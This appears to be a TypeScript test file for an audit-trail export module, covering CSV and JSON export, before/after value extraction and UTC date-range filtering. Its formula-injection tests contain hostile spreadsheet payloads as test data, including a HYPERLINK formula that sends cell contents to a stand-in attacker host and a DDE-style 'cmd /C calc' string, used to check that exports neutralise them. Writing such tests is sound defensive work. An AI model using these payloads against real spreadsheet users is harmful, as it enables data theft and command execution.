/**
 * The audit trail's export files (src/domain/audit-export.ts): the range by UTC day, the old and
 * new value, and (f) no cell a spreadsheet would run as a formula, whatever a person put in their
 * Jira display name or a recorded value.
 */
import { appendEntry } from '../../src/domain/audit-chain';
import type { AuditEntry } from '../../src/domain/audit-chain';
import {
  AUDIT_CSV_COLUMNS,
  auditEntriesToCsv,
  auditEntriesToJson,
  changeOf,
  entriesInRange,
} from '../../src/domain/audit-export';
import { neutraliseCsvCell } from '../../src/domain/csv-safety';
import { parseCsvRecords } from '../../src/domain/registry-csv';
import { anAuditInput, anAuditKey } from '../builders';

const KEY = anAuditKey();

const chain = (inputs: readonly Record<string, unknown>[]): AuditEntry[] => {
  const entries: AuditEntry[] = [];
  for (const input of inputs) entries.push(appendEntry(entries[entries.length - 1], anAuditInput(input), KEY));
  return entries;
};

const rowsOf = (csv: string): string[][] => {
  const { records, errors } = parseCsvRecords(csv);
  expect(errors).toEqual([]);
  return records.map((record) => record.fields);
};

describe('(f) CSV formula injection', () => {
  const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];

  it.each(DANGEROUS.map((c) => [JSON.stringify(c), c]))(
    'a cell starting with %s gets a leading quote, in every column a person can fill',
    (_name, c) => {
      const payload = `${c}HYPERLINK("https://evil.example/?"&A1)`;
      const [entry] = chain([
        {
          actor: { accountId: `${c}acc-1`, displayName: `${c}cmd|' /C calc'!A0` },
          payload: { before: payload, after: `${c}1+1` },
        },
      ]);
      if (entry === undefined) throw new Error('no entry');
      const [header, row] = rowsOf(auditEntriesToCsv([entry]));
      expect(header).toEqual([...AUDIT_CSV_COLUMNS]);
      const cell = (column: (typeof AUDIT_CSV_COLUMNS)[number]) => row?.[AUDIT_CSV_COLUMNS.indexOf(column)];
      expect(cell('actor name')).toBe(`'${c}cmd|' /C calc'!A0`);
      expect(cell('actor id')).toBe(`'${c}acc-1`);
      expect(cell('old value')).toBe(`'${payload}`);
      expect(cell('new value')).toBe(`'${c}1+1`);
      for (const value of row ?? []) expect(DANGEROUS.some((d) => value.startsWith(d))).toBe(false);
    },
  );

  it('leaves other cells as they are', () => {
    expect(neutraliseCsvCell('Rita Regulatory')).toBe('Rita Regulatory');
    expect(neutraliseCsvCell('')).toBe('');
    expect(neutraliseCsvCell('a=b')).toBe('a=b');
  });
});

describe('auditEntriesToCsv', () => {
  it('writes one row per entry with the stored time, actor, action, subject, change and hash', () => {
    const entries = chain([
      {
        subject: 'app:gates',
        action: 'admin/gates/save',
        payload: { before: { enabled: false }, after: { enabled: true } },
      },
      { payload: { applicationId: 'APP-1', category: 'PAS' } },
    ]);
    const rows = rowsOf(auditEntriesToCsv(entries));
    expect(rows.slice(1)).toEqual(
      entries.map((entry) => [
        String(entry.seq),
        entry.at,
        entry.actor.displayName,
        entry.actor.accountId,
        entry.action,
        entry.subject,
        changeOf(entry).old,
        changeOf(entry).new,
        entry.hash,
      ]),
    );
    expect(rows[1]?.slice(6, 8)).toEqual(['{"enabled":false}', '{"enabled":true}']);
    expect(rows[2]?.slice(6, 8)).toEqual(['', '{"applicationId":"APP-1","category":"PAS"}']);
  });
});

describe('changeOf', () => {
  it('takes before and after when either is there, and strings as they are', () => {
    const [created, removed, plain] = chain([
      { payload: { after: 'new name' } },
      { payload: { before: 'old name' } },
      { payload: 'a note' },
    ]);
    if (created === undefined || removed === undefined || plain === undefined) throw new Error('no entries');
    expect(changeOf(created)).toEqual({ old: '', new: 'new name' });
    expect(changeOf(removed)).toEqual({ old: 'old name', new: '' });
    expect(changeOf(plain)).toEqual({ old: '', new: 'a note' });
  });
});

describe('entriesInRange', () => {
  const entries = chain(
    [
      '2026-11-20T23:59:59.999Z',
      '2026-11-21T00:00:00.000Z',
      '2026-11-22T10:00:00+02:00',
      '2026-11-23T00:00:00.000Z',
    ].map((at) => ({ at })),
  );

  it('keeps the entries on the UTC days from `from` to `to`, both included', () => {
    expect(entriesInRange(entries, '2026-11-21', '2026-11-22').map((e) => e.seq)).toEqual([2, 3]);
    expect(entriesInRange(entries, '2026-11-20', '2026-11-20').map((e) => e.seq)).toEqual([1]);
    expect(entriesInRange(entries, '2026-12-01', '2026-12-31')).toEqual([]);
  });
});

describe('auditEntriesToJson', () => {
  it('holds the entries exactly as stored, with the range', () => {
    const entries = chain([{}, {}]);
    expect(
      JSON.parse(
        auditEntriesToJson(entries, { from: '2026-01-01', to: '2026-01-31', exportedAt: '2026-02-01T00:00:00.000Z' }),
      ),
    ).toEqual({
      format: 'qms-rim-audit-trail/1',
      from: '2026-01-01',
      to: '2026-01-31',
      exportedAt: '2026-02-01T00:00:00.000Z',
      entries,
    });
  });
});
